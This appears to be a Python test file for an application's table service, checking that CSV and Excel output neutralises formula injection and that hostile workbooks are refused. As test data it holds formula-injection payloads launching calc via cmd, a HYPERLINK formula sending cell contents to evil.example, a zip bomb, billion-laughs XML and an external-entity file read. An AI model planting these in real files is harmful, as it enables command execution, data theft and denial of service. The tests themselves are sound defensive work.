"""Tables that leave the program and come back: nothing is executed, nothing is changed, nothing swallows the memory."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from app.core.errors import ConfigError
from app.core.texts import use_language
from app.services.tables import neutralised, read_table, restored, write_table

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "'=1",
    "''",
    "＝1+1",
    '=HYPERLINK("https://evil.example?"&A1)',
    "a,=cmd|' /C calc'!A0",
    'a";=1+1;"',
    "a\t=1+1",
    "-2+3+cmd|' /C calc'!A0",
]
cells = (
    st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=30)
    | st.text(alphabet="=+-@\t\r\n;,|\"' a1＝_x0", max_size=12)
    | st.sampled_from(FORMULAS)
)


@given(cells)
def test_what_was_neutralised_is_restored_exactly(cell: str) -> None:
    assert restored(neutralised(cell)) == cell
    assert not neutralised(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
@pytest.mark.parametrize("language", ["en", "de"])
@given(rows=st.lists(st.tuples(cells, cells), max_size=6))
def test_any_text_survives_a_table(
    tmp_path_factory: pytest.TempPathFactory, ending: str, language: str, rows: list[tuple[str, str]]
) -> None:
    use_language(language)
    path = tmp_path_factory.getbasetemp() / f"round-{language}{ending}"
    written = [("x", *row) for row in rows]
    write_table(path, ["key", "one", "two"], written)
    assert read_table(path).rows == tuple(written)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("language", ["en", "de"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_with_a_formula_whatever_separator_the_spreadsheet_takes(
    tmp_path: Path, delimiter: str, language: str, formula: str
) -> None:
    use_language(language)
    write_table(tmp_path / "m.csv", ["key", "name"], [["a", formula]])
    words = (tmp_path / "m.csv").read_text(encoding="utf-8-sig")
    found = [cell for row in csv.reader(io.StringIO(words, newline=""), delimiter=delimiter) for cell in row]
    assert not [cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    write_table(tmp_path / "m.csv", ["key", "sum"], [["-5", Decimal("-12.50")], ["x", -3]])
    assert (tmp_path / "m.csv").read_text(encoding="utf-8-sig").splitlines()[1:] == ['"\'-5",-12.50', '"x",-3']
    write_table(tmp_path / "m.xlsx", ["key", "sum"], [["-5", Decimal("-12.50")]])
    sheet = load_workbook(tmp_path / "m.xlsx").worksheets[0]
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'-5", "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-12.5, "n")


# Files made to do harm -----------------------------------------------------------------------------------------------


def repacked(path: Path, **changes: bytes) -> Path:
    """A workbook with some of its parts replaced; ``sheet`` stands for the first sheet."""
    book = Workbook()
    assert book.active is not None
    book.active.append(["key", "number"])
    book.active.append(["A", "1"])
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts |= {f"xl/{name.replace('sheet', 'worksheets/sheet1')}.xml": content for name, content in changes.items()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def refused(path: Path) -> str:
    with pytest.raises(ConfigError) as caught:
        read_table(path)
    assert caught.value.field == "path"
    return str(caught.value)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    sheet = b"<worksheet>" + b"<!-- -->" * 8_000_000 + b"</worksheet>"
    path = repacked(tmp_path / "bomb.xlsx", sheet=sheet)
    assert path.stat().st_size < 1_000_000
    assert "far too large" in refused(path)


def test_entities_in_a_workbook_are_refused(tmp_path: Path) -> None:
    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    sheet = f'<?xml version="1.0"?><!DOCTYPE worksheet [{laughs}]><worksheet><x>&i;</x></worksheet>'
    assert "cannot be read" in refused(repacked(tmp_path / "laughs.xlsx", sheet=sheet.encode()))


def test_an_external_entity_reads_no_other_file(tmp_path: Path) -> None:
    (tmp_path / "private.txt").write_text("canary-content", encoding="utf-8")
    address = (tmp_path / "private.txt").as_uri()
    strings = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "{address}">]><sst><si><t>&x;</t></si></sst>'
    for part in ("sheet", "sharedStrings", "workbook", "styles"):
        path = repacked(tmp_path / f"{part}.xlsx", **{part: strings.encode()})
        with contextlib.suppress(ConfigError):
            assert "canary-content" not in str(read_table(path))


def test_a_sheet_that_claims_all_cells_there_can_be_is_read_as_what_it_holds(tmp_path: Path) -> None:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>key</t></is></c></row>'
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>A</t></is></c></row></sheetData></worksheet>'
    )
    assert read_table(repacked(tmp_path / "wide.xlsx", sheet=sheet)).rows == (("A",),)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.csv")
    assert "no ordinary file" in refused(tmp_path / "pipe.csv")


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="this system has no such device")
def test_a_link_to_a_device_without_end_is_refused(tmp_path: Path) -> None:
    (tmp_path / "zero.csv").symlink_to("/dev/zero")
    assert "no ordinary file" in refused(tmp_path / "zero.csv")
